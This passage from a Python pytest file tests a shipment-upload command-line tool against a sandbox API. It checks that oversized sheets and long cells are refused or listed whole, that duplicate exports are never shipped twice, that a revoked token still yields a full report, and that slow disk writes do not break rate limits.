        shipments = {s["id"]: s for s in sandbox.shipments()}
        assert set(ids.values()) == set(shipments)
        for (file, row), shipment_id in ids.items():
            tracking = results[(file, row)]["Tracking Number"]
            assert shipments[shipment_id]["trackingNumber"] == tracking
    assert len(sandbox.shipments()) == 3
    assert sum(len(s["shipmentItems"]) for s in sandbox.shipments()) == 4


def test_more_rows_than_a_sheet_holds_are_refused_not_dropped(
    sandbox: Sandbox, cli_run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the sheet limit lowered to 3 rows, a 4-row file is refused or fully listed."""
    for module in (report, pipeline, reader):
        if hasattr(module, "EXCEL_MAX_ROWS"):
            monkeypatch.setattr(module, "EXCEL_MAX_ROWS", 3)
    rows = [["TEST-1", "101", "1ZMANYROWS01", f"SKU-{i % 3 + 1}", "1", ""] for i in range(4)]
    source = write_csv(tmp_path / "many.csv", rows, HEADER)
    run = cli_run("upload", str(source), env=sandbox_env(sandbox))
    if run.code == 2:
        assert_refused(run, "many.csv")
        assert sandbox.stats().requests == 0
    else:
        listed = [r["Input Row"] for r in sheet_dicts(only_workbook(run.report_dir), "Results")]
        assert listed == [2, 3, 4, 5]


def test_cell_longer_than_excel_holds_is_never_cut_silently(cli_run, tmp_path: Path) -> None:
    """A 40,000-character note: refused naming the row, or listed whole, never truncated."""
    note = "long note " * 4_000
    rows = [["TEST-1", "101", "1ZLONGNOTE01", "SKU-1", "x", note]]
    source = write_csv(tmp_path / "long.csv", rows, HEADER)
    run = cli_run("upload", str(source), "--dry-run")
    if run.code == 2:
        assert_refused(run, "long.csv", "row 2")
    else:
        (failed,) = sheet_dicts(only_workbook(run.report_dir), "Failed")
        assert failed["Note"] == note


def test_the_same_export_given_twice_never_ships_an_item_twice(
    sandbox: Sandbox, cli_run, tmp_path: Path
) -> None:
    """orders.csv and its copy `orders (1).csv` in one run: never quantity 2 x 2 on the PO."""
    rows = [["TEST-1", "101", "1ZTWICE00001", "SKU-1", "2", ""]]
    first = write_csv(tmp_path / "orders.csv", rows, HEADER)
    copy = shutil.copy(first, tmp_path / "orders (1).csv")
    run = cli_run("upload", str(first), str(copy), env=sandbox_env(sandbox))
    book = only_workbook(run.report_dir)
    assert _listed(book, "Results") == Counter({("orders.csv", 2): 1, ("orders (1).csv", 2): 1})
    shipped = sum(i["quantity"] for s in sandbox.shipments() for i in s["shipmentItems"])
    assert shipped <= 2
    copied = [
        r for r in read_workbook(book).table("Results") if r["Input File"] == "orders (1).csv"
    ]
    assert [(r["Status"], r["Error"]) for r in copied] == [
        ("skipped", "same row as orders.csv row 2")
    ]


def test_a_refused_token_still_leaves_a_workbook_of_every_row(
    sandbox: Sandbox, cli_run, tmp_path: Path
) -> None:
    """Source 101's token works, 102's was revoked: exit 3, and the workbook lists all 3 rows."""
    rows = [
        ["TEST-1", "101", "1ZREVOKED001", "SKU-1", "1", ""],
        ["TEST-3", "102", "1ZREVOKED002", "SKU-1", "1", ""],
        ["TEST-2", "101", "1ZREVOKED003", "SKU-1", "1", ""],
    ]
    source = write_csv(tmp_path / "revoked.csv", rows, HEADER)
    tokens = tmp_path / "tokens.toml"
    tokens.write_text('[tokens]\n"101" = "TOKEN_101"\n"102" = "TOKEN_102"\n', encoding="utf-8")
    env = {
        "FLXPOINT_BASE_URL": sandbox.url,
        "TOKEN_101": "sandbox-source-101",
        "TOKEN_102": "revoked-token-102",
    }
    run = cli_run("upload", str(source), "--tokens", str(tokens), env=env)
    assert run.code == 3
    assert sandbox.shipments()  # something was created before the 401
    results = sheet_dicts(only_workbook(run.report_dir), "Results")
    assert [r["Input Row"] for r in results] == [2, 3, 4]
    created = {s["trackingNumber"] for s in sandbox.shipments()}
    assert {r["Tracking Number"] for r in results if r["Status"] == "created"} == created


# --- 6. a hostile machine ----------------------------------------------------------------------


def test_slow_journal_disk_never_brings_requests_closer_than_the_rate(
    cli_run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Journal writes taking 30 ms and 0 ms in turn (a busy disk): a strict API sees no 429."""
    delays = itertools.cycle([0.03, 0.0])
    record_intent = Journal.record_intent

    def slow_disk(self: Journal, *args: Any, **kwargs: Any) -> None:
        time.sleep(next(delays))
        record_intent(self, *args, **kwargs)

    monkeypatch.setattr(Journal, "record_intent", slow_disk)
    rows = [[f"TEST-{i}", "101", f"1ZSLOWDISK{i:02d}", "SKU-1", "1", ""] for i in range(4)]
    source = write_csv(tmp_path / "slow.csv", rows, HEADER)
    with Sandbox(SandboxOptions(auto_create_pos=True)) as strict:
        run = cli_run("upload", str(source), env=sandbox_env(strict))
        stats = strict.stats()
    assert run.code == 0, run.stderr
    assert stats.rate_limited == 0
